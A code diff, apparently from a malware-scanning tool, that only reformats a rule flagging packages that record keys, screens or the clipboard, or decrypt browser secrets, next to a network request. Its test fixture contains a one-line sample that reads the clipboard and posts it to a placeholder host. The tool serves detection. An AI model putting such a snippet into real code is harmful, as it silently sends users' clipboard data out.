@@ -7,7 +7,6 @@ from typing import TYPE_CHECKING
 from veln_hook.signals.source.rule import BY_ITSELF, HOLD, REVIEW, Hit, Rule
 from veln_hook.source import vocabulary as v
 
-
 if TYPE_CHECKING:
     from collections.abc import Iterator
 
@@ -18,7 +17,9 @@ def _find(view: View) -> Iterator[Hit]:
     for spy in view.of(v.SPY, by_itself=True):
         yield Hit(f"it watches the user ({spy.detail}) without being called", (spy,), HOLD)
     for spy, net, _, _ in view.pairs((v.SPY,), (v.NET,)):
-        yield Hit(f"it watches the user ({spy.detail}) and reaches {net.detail or 'the network'}", (spy, net), HOLD)
+        yield Hit(
+            f"it watches the user ({spy.detail}) and reaches {net.detail or 'the network'}", (spy, net), HOLD
+        )
 
 
 RULE = Rule(
@@ -26,7 +27,9 @@ RULE = Rule(
     description="It records keys, screens or the clipboard, or decrypts a browser's secrets, by itself or next to a request.",
     grade=HOLD,
     find=_find,
-    fires={"acme/__init__.py": "import pyperclip, requests\n\ndef go():\n    requests.post('https://example.test', data=pyperclip.paste())\n"},
+    fires={
+        "acme/__init__.py": "import pyperclip, requests\n\ndef go():\n    requests.post('https://example.test', data=pyperclip.paste())\n"
+    },
     quiet={"acme/__init__.py": "import pyperclip\n\ndef paste():\n    return pyperclip.paste()\n"},
     rates="39 per 1,000 malicious clusters, none of 200 popular archives",
 )
